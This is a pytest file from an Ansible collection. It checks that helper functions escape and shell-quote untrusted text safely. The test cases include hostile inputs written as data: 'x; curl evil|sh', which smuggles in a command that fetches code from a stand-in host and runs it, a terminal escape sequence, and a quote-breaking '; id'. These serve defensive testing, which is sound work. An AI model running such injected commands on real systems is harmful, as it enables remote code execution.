# Copyright (c) Longshore contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import subprocess

import pytest

from ansible_collections.longshore.fleet.plugins.module_utils._printable import printable, shell_word


@pytest.mark.parametrize(
    ("text", "shown", "word"),
    [
        pytest.param("longshore/services/web", "longshore/services/web", "longshore/services/web", id="ordinary"),
        pytest.param("x; curl evil|sh", "x; curl evil|sh", "'x; curl evil|sh'", id="a command"),
        pytest.param("a\x1b[2J", r"a\x1b[2J", r"$'a\x1b[2J'", id="what a terminal obeys"),
        pytest.param("a\nb: none", r"a\nb: none", r"$'a\nb: none'", id="a line of its own"),
        pytest.param("a\n\\'; id", r"a\n\'; id", r"$'a\n\\\'; id'", id="a quote that would end the word"),
    ],
)
def test_texts_of_others(text: str, shown: str, word: str) -> None:
    assert printable(text) == shown
    assert shell_word(text) == word
    told = subprocess.run(["bash", "-c", f"printf %s {word}"], check=True, capture_output=True, text=True).stdout
    assert told == text
